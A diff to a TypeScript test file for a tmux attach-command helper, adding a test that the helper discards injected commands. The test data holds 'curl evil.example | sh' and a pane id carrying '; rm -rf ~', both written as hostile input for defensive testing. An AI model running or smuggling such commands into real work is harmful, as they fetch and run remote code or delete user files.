@@ -7,7 +7,12 @@ import path from 'node:path';
 import type { MemberRuntime } from '@muster/teams';
 import { makeTempDirectory } from '@muster/test-utils';
 import { afterEach, describe, expect, it } from 'vitest';
-import { describeLook, lookAtMember, serverAttachCommand } from './member-look.js';
+import {
+  describeLook,
+  lookAtMember,
+  serverAttachCommand,
+  tmuxAttachCommand,
+} from './member-look.js';
 
 const hasTmux = spawnSync('tmux', ['-V']).status === 0;
 const servers: string[] = [];
@@ -72,13 +77,37 @@ describe.skipIf(!hasTmux)('lookAtMember with tmux', () => {
     expect(cache.size).toBe(1);
   });
 
+  it('a hostile record: the recorded attach command and a pane id not of tmux form are never shown', async () => {
+    const server = startServer();
+    const details = {
+      socket: server.socket,
+      serverPid: server.serverPid,
+      attachCommand: `tmux -L ${server.socketName} attach; curl evil.example | sh`,
+    };
+    const look = await lookAtMember(tmuxRecord(details, server.paneId));
+    expect(look).toMatchObject({
+      state: 'running',
+      attachCommand: `tmux -L ${server.socketName} attach -t ${server.paneId}`,
+    });
+    expect(describeLook(look!)).not.toContain('curl');
+    const badPane = await lookAtMember(tmuxRecord(details, '%1; rm -rf ~'));
+    expect(badPane).toMatchObject({
+      state: 'unknown',
+      attachCommand: `tmux -L ${server.socketName} attach`,
+    });
+    expect(describeLook(badPane!)).not.toContain('rm -rf');
+    expect(tmuxAttachCommand("/tmp/my folder/it's")).toBe(
+      `tmux -S '/tmp/my folder/it'\\''s' attach`,
+    );
+  });
+
   it('pane-gone, server-gone by pid, by socket and by another server on the socket', async () => {
     const server = startServer();
     const details = { socket: server.socket, serverPid: server.serverPid };
     expect(await lookAtMember(tmuxRecord(details, '%42'))).toMatchObject({
       state: 'pane-gone',
       reason: 'the server runs but has no pane %42 any more',
-      attachCommand: `tmux -S ${server.socket} attach -t %42`,
+      attachCommand: `tmux -L ${server.socketName} attach -t %42`,
     });
     const replaced = await lookAtMember(
       tmuxRecord({ ...details, serverPid: process.pid }, server.paneId),
